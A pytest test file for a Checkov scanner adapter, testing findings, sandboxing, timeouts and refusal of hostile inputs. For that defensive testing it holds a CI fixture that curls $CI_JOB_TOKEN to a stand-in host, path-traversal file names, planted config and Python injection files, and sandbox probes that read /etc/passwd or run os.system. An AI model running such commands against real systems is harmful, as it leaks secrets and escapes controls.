"""Checkov, the real one where it is installed: every trap that it is known for."""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from reconciler.adapters.checkov import SERVER, Checkov
from reconciler.adapters.tools import Toolbox
from reconciler.model.rendered import RenderedFile
from reconciler.model.scan import Framework, ScanFailed, Scanned, ScanRequest
from reconciler.settings import ProcessSettings

BOX = Toolbox(ProcessSettings().tools_folder(), {})
PYTHON = BOX.python("checkov")
GOLDEN = Path(__file__).parents[1] / "golden"

pytestmark = [
    pytest.mark.skipif(PYTHON is None, reason="Checkov is not installed: reconciler tools install"),
]

OPEN = """
resource "aws_security_group" "a" {
  description = "a"
  ingress {
    description = "a"
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
"""
POLICY = """
data "aws_iam_policy_document" "a" {
  statement {
    actions   = ["%s"]
    resources = ["%s"]
  }
}
"""


def request(files: dict[str, str], framework: Framework = "terraform") -> ScanRequest:
    found = tuple(RenderedFile(path, text.encode()) for path, text in files.items())
    return ScanRequest(framework, "shop", found)


def plan(resources: list[dict[str, Any]], **more: Any) -> str:
    values = {"root_module": {"resources": resources}}
    whole = {"format_version": "1.2", "terraform_version": "1.9.0", "planned_values": values}
    return json.dumps({**whole, "resource_changes": [], "configuration": {}, **more})


@pytest.fixture(scope="module")
def checkov() -> Iterator[Checkov]:
    one = Checkov(BOX, seconds=30)
    yield one
    one.close()


def good(answer: Scanned | ScanFailed) -> Scanned:
    assert isinstance(answer, Scanned), answer
    return answer


def failed(answer: Scanned | ScanFailed) -> ScanFailed:
    assert isinstance(answer, ScanFailed), answer
    return answer


def rules(answer: Scanned | ScanFailed) -> set[str]:
    return {one.rule for one in good(answer).findings}


def server_of(checkov: Checkov) -> subprocess.Popen[bytes]:
    assert checkov._server is not None
    return checkov._server.process


# ------------------------------------------------------------------------------------ it finds


def test_a_finding_says_what_where_and_how_to_mend_it(checkov: Checkov) -> None:
    found = good(checkov.scan(request({"terraform/main.tf": "# first\n" + OPEN})))
    (one,) = [finding for finding in found.findings if finding.rule == "CKV_AWS_24"]
    assert (one.gate, one.severity, one.category) == ("checkov", "critical", "security")
    assert (one.location.path, one.location.line) == ("terraform/main.tf", 3)
    assert one.resource == "aws_security_group.a"
    assert one.environment == "shop"
    assert "port 22" in one.message
    assert one.fix.startswith("Look at `")
    assert "`cidr_blocks`" in one.fix or "cidr" in one.fix


def test_the_fingerprint_stays_when_lines_move(checkov: Checkov) -> None:
    before = good(checkov.scan(request({"main.tf": OPEN})))
    after = good(checkov.scan(request({"main.tf": "\n\n# more\n\n" + OPEN})))
    assert [one.fingerprint for one in before.findings] == [
        one.fingerprint for one in after.findings
    ]
    assert before.findings != after.findings
    prints = [one.fingerprint for one in before.findings]
    assert len(set(prints)) == len(prints)


def test_plan_and_pipeline_are_scanned(checkov: Checkov) -> None:
    resource = {
        "address": "aws_db_instance.a",
        "mode": "managed",
        "type": "aws_db_instance",
        "name": "a",
        "values": {"storage_encrypted": False, "publicly_accessible": True},
    }
    answer = good(checkov.scan(request({"plan.json": plan([resource])}, "terraform_plan")))
    assert {"CKV_AWS_16", "CKV_AWS_17"} <= rules(answer)
    assert {one.resource for one in answer.findings} == {"aws_db_instance.a"}
    text = 'job:\n  script:\n    - curl "https://a.example.com?x=$CI_JOB_TOKEN"\n'
    answer = good(checkov.scan(request({"pipeline/.gitlab-ci.yml": text}, "gitlab_ci")))
    assert rules(answer) == {"CKV_GITLABCI_1"}
    (one,) = answer.findings
    assert (one.category, one.location.path) == ("pipeline", "pipeline/.gitlab-ci.yml")


def test_an_empty_plan_is_clean(checkov: Checkov) -> None:
    assert checkov.scan(request({"plan.json": plan([])}, "terraform_plan")) == Scanned()


def test_verdicts_are_the_ones_of_the_command(checkov: Checkov, tmp_path: Path) -> None:
    """On our own files, in an empty working directory: what it may safely be run on."""
    folder = GOLDEN / "acme-portal" / "terraform"
    files = {f"terraform/{one.name}": one.read_text() for one in folder.glob("*.tf")}
    shutil.copytree(folder, tmp_path / "terraform")
    assert PYTHON is not None
    done = subprocess.run(
        [
            *(str(PYTHON), "-m", "checkov.main", "-d", ".", "--framework", "terraform"),
            *("-o", "json", "--compact", "--quiet", "--skip-download"),
        ],
        cwd=tmp_path,
        env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "LOG_LEVEL": "CRITICAL"},
        capture_output=True,
        check=False,
    )
    results = json.loads(done.stdout)["results"]
    found = good(checkov.scan(request(files)))
    assert sorted((one.rule, one.resource) for one in found.findings) == sorted(
        (one["check_id"], one["resource"]) for one in results["failed_checks"]
    )
    assert len(found.findings) > 5


# ----------------------------------------------------------------------------- it is not fooled


def test_no_verdict_is_stale(checkov: Checkov) -> None:
    bad, fine = POLICY % ("*", "*"), POLICY % ("s3:GetObject", "arn:aws:s3:::a/b")
    for _ in range(3):
        assert "CKV_AWS_49" in rules(checkov.scan(request({"main.tf": bad})))
        assert rules(checkov.scan(request({"main.tf": fine}))) == set()


@pytest.mark.parametrize(
    "text",
    [
        'resource "aws_s3_bucket" "a" {\n  bucket = "a',
        'resource "aws_s3_bucket" "a" {\n',
        "}",
        'resource "aws_s3_bucket" {\n}\n',
        "resource aws_s3_bucket a = 3 {",
    ],
)
def test_what_cannot_be_parsed_fails(checkov: Checkov, text: str) -> None:
    answer = failed(checkov.scan(request({"terraform/main.tf": text, "terraform/b.tf": OPEN})))
    assert answer.reason in ("refused", "failed")


@pytest.mark.parametrize(
    "text",
    ["", "{", "[]", "null", '{"a": 1}', '{"terraform_version": "1.9.0"}', plan([])[:-20]],
)
def test_a_broken_plan_fails(checkov: Checkov, text: str) -> None:
    answer = failed(checkov.scan(request({"plan.json": text}, "terraform_plan")))
    assert (answer.reason, "plan.json" in answer.message) == ("refused", True)


@pytest.mark.parametrize("text", ["a: [", "", "- 1", "job: *x", "\t"])
def test_a_broken_pipeline_fails(checkov: Checkov, text: str) -> None:
    answer = failed(checkov.scan(request({".gitlab-ci.yml": text}, "gitlab_ci")))
    assert answer.reason in ("refused", "failed")


def test_nothing_to_scan_fails(checkov: Checkov) -> None:
    assert "no files" in failed(checkov.scan(request({}))).message
    assert ".tf" in failed(checkov.scan(request({"a.txt": "x"}))).message


@pytest.mark.parametrize(
    "path",
    [
        "../a.tf",
        "/etc/a.tf",
        "a/../../b.tf",
        "a//b.tf",
        "./a.tf",
        "a b.tf",
        "",
        ".hidden/a.tf",
        "node_modules/a.tf",
        ".terraform/a.tf",
        "a.tf.json",
        "a\0.tf",
    ],
)
def test_what_checkov_would_pass_by_fails(checkov: Checkov, path: str) -> None:
    assert failed(checkov.scan(request({path: OPEN, "b.tf": OPEN}))).reason == "refused"


def test_what_is_not_text_or_too_large_fails(checkov: Checkov) -> None:
    for data, reason in ((b"\xff\xfe", "not-text"), (b"#" * (65 << 20), "too-large")):
        one = ScanRequest("terraform", "shop", (RenderedFile("a.tf", data),))
        assert failed(checkov.scan(one)).reason == reason


def test_configuration_files_are_not_obeyed(checkov: Checkov, tmp_path: Path) -> None:
    trap = tmp_path / "ran"
    hostile = """
skip-check: [CKV_AWS_24]
check: [CKV_AWS_1]
soft-fail: true
external-checks-dir: [terraform]
quiet: true
"""
    code = f"open({str(trap)!r}, 'w').write('x')\n"
    files = {
        "terraform/main.tf": OPEN,
        "terraform/.checkov.yaml": hostile,
        "terraform/.checkov.yml": hostile,
        ".checkov.yaml": hostile,
        "terraform/__init__.py": code,
        "terraform/check.py": code,
        "sitecustomize.py": code,
    }
    assert "CKV_AWS_24" in rules(checkov.scan(request(files)))
    # In the working directory of whoever starts the server, too.
    (tmp_path / ".checkov.yaml").write_text(hostile)
    (tmp_path / "checkov.py").write_text(code)
    before = Path.cwd()
    os.chdir(tmp_path)
    try:
        other = Checkov(BOX, seconds=30)
        assert "CKV_AWS_24" in rules(other.scan(request(files)))
        other.close()
    finally:
        os.chdir(before)
    assert not trap.exists()


def test_skip_comments_are_told_and_not_obeyed(checkov: Checkov) -> None:
    plain = good(checkov.scan(request({"main.tf": OPEN.replace("{\n", "{\n  # none\n", 1)})))
    for word in ("checkov", "bridgecrew", "cortex"):
        comment = f"{word}:skip=CKV_AWS_24:because"
        text = OPEN.replace("{\n", "{\n" + f"  # {comment}\n", 1)
        found = good(checkov.scan(request({"main.tf": text})))
        assert [one.fingerprint for one in found.findings] == [
            one.fingerprint for one in plain.findings
        ]
        (skip,) = found.skips
        assert (skip.path, skip.line, skip.rule) == ("main.tf", 3, "CKV_AWS_24")
        assert skip.reason == "because"
        (one,) = [finding for finding in found.findings if finding.rule == "CKV_AWS_24"]
        assert "waiver" in one.fix
    text = "job:\n  # checkov:skip=CKV_GITLABCI_1\n  script:\n    - curl $CI_JOB_TOKEN\n"
    found = good(checkov.scan(request({".gitlab-ci.yml": text}, "gitlab_ci")))
    assert rules(found) == {"CKV_GITLABCI_1"}
    assert len(found.skips) == 1


def test_a_file_outside_is_not_read(checkov: Checkov, tmp_path: Path) -> None:
    (tmp_path / "main.tf").write_text(OPEN)
    text = f'module "a" {{\n  source = "{os.path.relpath(tmp_path, "/")}"\n}}\n'
    for source in (text, text.replace('= "', '= "/'), text.replace('= "', '= "../../../../')):
        answer = checkov.scan(request({"main.tf": source}))
        if isinstance(answer, Scanned):
            assert "CKV_AWS_24" not in rules(answer)


# ------------------------------------------------------------------------------- it is boxed in


def box(script: str, **variables: str) -> dict[str, Any]:
    """Runs a script as the server does a scan, with Checkov's Python, and gives what it prints."""
    assert PYTHON is not None
    load = (
        "import importlib.util as u, json, os, sys, socket\n"
        f"spec = u.spec_from_file_location('server', {str(SERVER)!r})\n"
        "server = u.module_from_spec(spec); spec.loader.exec_module(server)\n"
        "folder = os.getcwd()\n"
        "class Fake:\n"
        "    def scan(self, *_):\n"
        + "".join(f"        {line}\n" for line in script.splitlines())
        + "        return {'failed': [], 'passed': []}\n"
        "request = {'seconds': 9, 'framework': 'terraform', 'files': {'a.tf': 'x'}}\n"
        "print(json.dumps(server.answer(Fake(), request, folder)))\n"
    )
    folder = Path(variables.pop("folder"))
    done = subprocess.run(
        [PYTHON, "-I", "-c", load], cwd=folder, capture_output=True, check=True, env=variables
    )
    answer: dict[str, Any] = json.loads(done.stdout)
    return answer


@pytest.mark.parametrize(
    "script",
    [
        "socket.create_connection(('127.0.0.1', 9))",
        "socket.getaddrinfo('example.com', 80)",
        "import urllib.request; urllib.request.urlopen('http://127.0.0.1:9/')",
        "import subprocess; subprocess.run(['true'])",
        "os.system('true')",
        "os.execv('/bin/true', ['true'])",
        "os.kill(os.getppid(), 0)",
        "open('/etc/passwd').read()",
        "open('/tmp/left-behind', 'w')",
        "os.remove('/tmp/left-behind')",
    ],
)
def test_a_scan_may_do_nothing_but_scan(script: str, tmp_path: Path) -> None:
    answer = box(script, folder=str(tmp_path))
    assert answer["error"] == "failed"
    assert "may not" in answer["message"]
    # Also when Checkov would swallow the refusal: then it is no verdict either.
    swallowed = f"try:\n    {script.replace('; ', '; ')}\nexcept Exception:\n    pass"
    assert box(swallowed, folder=str(tmp_path))["error"] == "failed"


def test_the_box_lets_a_scan_work(tmp_path: Path) -> None:
    answer = box("open('x.txt', 'w').close(); import lark, wave", folder=str(tmp_path))
    assert "error" not in answer


def test_the_kernel_keeps_the_network_away(checkov: Checkov) -> None:
    good(checkov.scan(request({"main.tf": OPEN})))
    process = server_of(checkov)
    assert checkov._server is not None
    if checkov._server.hello["network"] != "namespace":
        pytest.skip("this kernel gives no network namespaces; the audit hook holds alone")
    ours, theirs = Path("/proc/self/ns/net"), Path(f"/proc/{process.pid}/ns/net")
    assert ours.readlink() != theirs.readlink()


def test_nothing_of_our_environment_gets_in(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2-hunter2")
    monkeypatch.setenv("CI_JOB_TOKEN", "hunter2-hunter2")
    monkeypatch.setenv("TF_VAR_password", "hunter2-hunter2")
    one = Checkov(BOX, seconds=30)
    good(one.scan(request({"main.tf": OPEN})))
    process = server_of(one)
    inside = Path(f"/proc/{process.pid}/environ").read_bytes()
    assert b"hunter2" not in inside
    home = dict(line.split(b"=", 1) for line in inside.strip(b"\0").split(b"\0"))[b"HOME"]
    assert home.decode() != str(Path.home())
    assert os.getpgid(process.pid) != os.getpgid(0)
    assert Path(home.decode()).is_dir()
    one.close()
    assert process.poll() is not None
    assert not Path(home.decode()).exists()


# ---------------------------------------------------------------------------- it may go away


def test_a_dead_server_is_started_again(checkov: Checkov) -> None:
    good(checkov.scan(request({"main.tf": OPEN})))
    dead = server_of(checkov)
    os.kill(dead.pid, signal.SIGKILL)
    dead.wait()
    assert "CKV_AWS_24" in rules(checkov.scan(request({"main.tf": OPEN})))
    assert server_of(checkov).pid != dead.pid


def test_a_server_that_dies_in_the_middle_is_a_failure() -> None:
    one = Checkov(BOX, seconds=30)
    good(one.scan(request({"main.tf": OPEN})))
    process = server_of(one)
    os.kill(process.pid, signal.SIGSTOP)
    timer = threading.Timer(0.3, os.kill, (process.pid, signal.SIGKILL))
    timer.start()
    assert failed(one.scan(request({"main.tf": OPEN}))).reason == "died"
    timer.join()
    good(one.scan(request({"main.tf": OPEN})))
    one.close()


def test_a_scan_that_hangs_is_stopped() -> None:
    """Far too much work for the time given; the server outlives it."""
    one = Checkov(BOX, seconds=30)
    good(one.scan(request({"main.tf": OPEN})))
    pid = server_of(one).pid
    one._seconds = 0.5
    much = "".join(OPEN.replace('"a"', f'"a{number}"', 1) for number in range(3000))
    start = time.monotonic()
    answer = failed(one.scan(request({"main.tf": much})))
    assert (answer.reason, "0.5 seconds" in answer.message) == ("out-of-time", True)
    assert time.monotonic() - start < 5
    one._seconds = 30
    assert "CKV_AWS_24" in rules(one.scan(request({"main.tf": OPEN})))
    assert server_of(one).pid == pid
    one.close()


def test_a_server_that_hangs_is_a_failure(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("reconciler.adapters.checkov._GRACE", 0.3)
    one = Checkov(BOX, seconds=30)
    good(one.scan(request({"main.tf": OPEN})))
    process = server_of(one)
    one._seconds = 0.3
    os.kill(process.pid, signal.SIGSTOP)
    assert failed(one.scan(request({"main.tf": OPEN}))).reason == "out-of-time"
    assert process.poll() is not None
    one.close()


def test_scans_at_the_same_time_do_not_mix(checkov: Checkov) -> None:
    """Threads, and many at a time from one thread."""
    fine = POLICY % ("s3:GetObject", "arn:aws:s3:::a/b")
    wrong: list[object] = []

    def work(text: str, *, expected: bool) -> None:
        for _ in range(4):
            answer = checkov.scan(request({"main.tf": text}))
            if not isinstance(answer, Scanned) or bool(answer.findings) is not expected:
                wrong.append(answer)

    threads = [
        threading.Thread(target=work, args=(text,), kwargs={"expected": text is OPEN})
        for text in (OPEN, fine)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert wrong == []
    texts = [OPEN, fine, "}", OPEN, fine]
    answers = list(checkov.scan_many([request({"main.tf": text}) for text in texts]))
    assert [isinstance(one, Scanned) and bool(one.findings) for one in answers] == [
        True,
        False,
        False,
        True,
        False,
    ]
    assert isinstance(answers[2], ScanFailed)


def test_long_questions_and_long_answers_do_not_block_each_other(checkov: Checkov) -> None:
    """Longer than a pipe holds, in both directions at once."""
    much = "".join(OPEN.replace('"a"', f'"{"a" * 90}{n}"', 1) for n in range(60))
    asked = [request({"main.tf": f"# {n}\n" + "#" * 400_000 + "\n" + much}) for n in range(5)]
    start = time.monotonic()
    assert all("CKV_AWS_24" in rules(one) for one in checkov.scan_many(asked))
    assert time.monotonic() - start < 25


def test_a_fork_of_ours_does_not_touch_the_server(checkov: Checkov) -> None:
    good(checkov.scan(request({"main.tf": OPEN})))
    assert checkov._server is not None
    monkey = checkov._server
    monkey.owner += 1  # as a forked worker sees it
    try:
        checkov.close()
        assert monkey.process.poll() is None
        assert "CKV_AWS_24" in rules(checkov.scan(request({"main.tf": OPEN})))
        assert server_of(checkov).pid != monkey.process.pid
    finally:
        monkey.owner -= 1
        monkey.stop()


def test_the_map_names_what_our_blueprints_trigger(checkov: Checkov) -> None:
    from reconciler.core.checkov_severity import named

    requests = [
        request({f"terraform/{one.name}": one.read_text() for one in folder.glob("*.tf")})
        for folder in sorted(GOLDEN.glob("*/terraform"))
    ]
    found = {one for answer in checkov.scan_many(requests) for one in rules(answer)}
    assert len(found) > 10
    assert {rule for rule in found if not named(rule)} == set()


def test_the_map_names_every_check_of_aws_and_only_checks_that_there_are() -> None:
    assert PYTHON is not None
    from reconciler.core.checkov_severity import _weights

    script = (
        "import checkov.terraform.runner, checkov.terraform.plan_runner\n"
        "from checkov.common.checks_infra.registry import get_graph_checks_registry as graph\n"
        "from checkov.terraform.checks.resource.registry import resource_registry as a\n"
        "from checkov.terraform.checks.data.registry import data_registry as b\n"
        "from checkov.terraform.checks.provider.registry import provider_registry as c\n"
        "from checkov.terraform.checks.module.registry import module_registry as d\n"
        "from checkov.gitlab_ci.checks.registry import registry as e\n"
        "graph('terraform').load_checks()\n"
        "found = {one.id for one in graph('terraform').checks}\n"
        "for all in (a, b, c, d, e):\n"
        "    for checks in (*all.checks.values(), *all.wildcard_checks.values()):\n"
        "        found |= {one.id for one in checks}\n"
        "print(*found)\n"
    )
    done = subprocess.run([PYTHON, "-I", "-c", script], capture_output=True, check=True, env={})
    there = set(done.stdout.decode().split())
    named = set(_weights())
    ours = {one for one in there if "_AWS_" in one or "_GITLABCI_" in one or "_TF_" in one}
    assert sorted(ours - named) == []
    assert sorted(named - there) == []


def test_the_loopback_of_this_machine_is_out_of_reach(tmp_path: Path) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        script = f"socket.create_connection(('127.0.0.1', {port}), 1)"
        assert box(script, folder=str(tmp_path))["error"] == "failed"
